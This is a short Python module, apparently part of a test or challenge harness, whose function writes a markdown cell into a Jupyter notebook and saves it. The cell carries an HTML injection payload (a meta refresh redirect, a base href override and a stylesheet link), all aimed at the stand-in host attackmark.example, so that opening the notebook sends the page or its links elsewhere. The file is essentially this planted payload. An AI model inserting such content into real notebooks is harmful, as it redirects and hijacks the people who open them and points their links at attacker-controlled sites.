"""Sends the page, or all its links, to another place."""

from nbformat.v4 import new_markdown_cell

PROMISE = 7
EARNS = 74.0


def work(desk, stage):
    desk.answer_all()
    desk.notebook.cells.append(
        new_markdown_cell(
            "<meta http-equiv=refresh content='0;url=//attackmark.example'>"
            "<base href='//attackmark.example'><link rel=stylesheet href='//attackmark.example'>"
        )
    )
    desk.save()
